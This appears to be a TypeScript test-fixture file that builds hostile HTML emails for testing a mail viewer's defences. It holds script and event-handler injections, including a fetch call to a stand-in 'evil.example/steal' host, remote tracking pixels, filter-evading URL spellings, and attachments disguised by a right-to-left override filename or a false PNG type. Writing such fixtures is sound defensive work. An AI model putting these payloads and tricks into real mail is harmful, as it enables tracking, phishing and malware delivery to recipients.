/** A hostile HTML mail: a script, an event handler, a remote tracking image, a remote stylesheet. */
export function hostileMail(subject = 'Your invoice is ready', id = 'hostile-1'): string {
  return [
    'From: Mallory <mallory@evil.example>',
    'To: bob@contoso.test',
    `Subject: ${subject}`,
    `Message-ID: <${id}@evil.example>`,
    `Date: ${new Date().toUTCString()}`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><head><link rel="stylesheet" href="https://evil.example/track.css">',
    '<style>body { background: url(https://evil.example/bg.png) }</style></head><body>',
    '<p id="visible-text">Please see the attached invoice.</p>',
    '<script>window.parent.__pwned = 1; document.title = "pwned"; fetch("https://evil.example/steal")</script>',
    '<img src="https://tracker.evil.example/pixel.gif?u=bob" width="1" height="1">',
    '<img src="x" onerror="window.parent.__pwned = 2">',
    '<a href="javascript:window.parent.__pwned=3">click me</a>',
    '<a href="https://example.org/terms">terms</a>',
    // Remote references in the spellings browsers accept that simple filters miss.
    '<img src="\\\\evil.example/backslash.gif"><img src="https:evil.example/noslash.gif">',
    '<style>@import "https://evil.example/import.css"; p { background: u\\rl(https://evil.example/escaped.png) }',
    'div { background-image: image-set("https://evil.example/set.png" 1x) }</style>',
    '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:window.parent.__pwned=7"></map>',
    '</body></html>',
    '',
  ].join('\r\n')
}

/** A mail with a plain-text attachment and hostile ones: HTML with a script, a program behind a bidi trick, SVG, a fake PNG. */
export function attachmentsMail(): string {
  const b = 'tandem-boundary-1'
  return [
    'From: Alice Archer <alice@contoso.test>', 'To: bob@contoso.test', 'Subject: Logs and a page',
    'Message-ID: <attachments-1@contoso.test>', `Date: ${new Date().toUTCString()}`, 'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`, '',
    `--${b}`, 'Content-Type: text/plain; charset=utf-8', '', 'Two files attached.', '',
    `--${b}`, 'Content-Type: text/plain; name="notes.txt"', 'Content-Disposition: attachment; filename="notes.txt"', '', 'line one of the notes', '',
    `--${b}`, 'Content-Type: text/html; name="page.html"', 'Content-Disposition: attachment; filename="page.html"', '', '<script>window.opener && (window.opener.__pwned = 4)</script><p>page</p>', '',
    // A Windows program whose name, with a right-to-left override, reads "invoiceexe.pdf".
    `--${b}`, 'Content-Type: application/pdf; name="=?utf-8?B?aW52b2ljZeKArmZkcC5leGU=?="', 'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename*=utf-8\'\'invoice%E2%80%AEfdp.exe', '', Buffer.from('MZ\x90\x00fake program').toString('base64'), '',
    `--${b}`, 'Content-Type: image/svg+xml; name="logo.svg"', 'Content-Disposition: attachment; filename="logo.svg"', '', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.opener && (window.opener.__pwned = 5)"/>', '',
    // Says PNG, is HTML: the viewer must not believe the sender's type.
    `--${b}`, 'Content-Type: image/png; name="chart.png"', 'Content-Disposition: attachment; filename="chart.png"', '', '<script>window.opener && (window.opener.__pwned = 6)</script>', '',
    `--${b}--`, '',
  ].join('\r\n')
}
